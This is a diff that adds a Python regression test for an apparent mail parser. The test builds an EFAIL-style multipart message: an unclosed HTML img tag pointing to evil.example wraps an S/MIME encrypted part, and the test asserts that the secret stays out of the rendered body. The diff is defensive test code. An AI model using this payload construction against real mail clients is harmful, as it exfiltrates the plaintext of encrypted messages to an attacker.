@@ -335,6 +335,25 @@ def test_notices_have_no_bare_ends_of_lines() -> None:
         assert b"\r\n.\r\n" not in notice.content
 
 
+def test_what_is_encrypted_stands_in_no_text_of_others() -> None:
+    """X23, EFAIL: it stays closed, and no two parts make one HTML."""
+    html = "--b\r\nContent-Type: text/html\r\n\r\n{}\r\n"
+    message = parse(
+        (
+            "From: ada@client.example\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
+            + html.format('<img src="http://evil.example/')
+            + "--b\r\nContent-Type: application/pkcs7-mime; name=smime.p7m\r\n\r\nSECRET\r\n"
+            + html.format('">')
+            + "--b--\r\n"
+        ).encode()
+    )
+    [closed] = message.attachments
+
+    assert closed.content == b"SECRET"
+    assert "SECRET" not in f"{message.body.html}{message.body.text}"
+    assert message.body.html == '<img src="http://evil.example/'
+
+
 def test_a_mail_logs_a_line_at_most_and_no_word_of_it(caplog: pytest.LogCaptureFixture) -> None:
     """X25, X26: also where no notice can be written or sent."""
     helpdesk = desk()
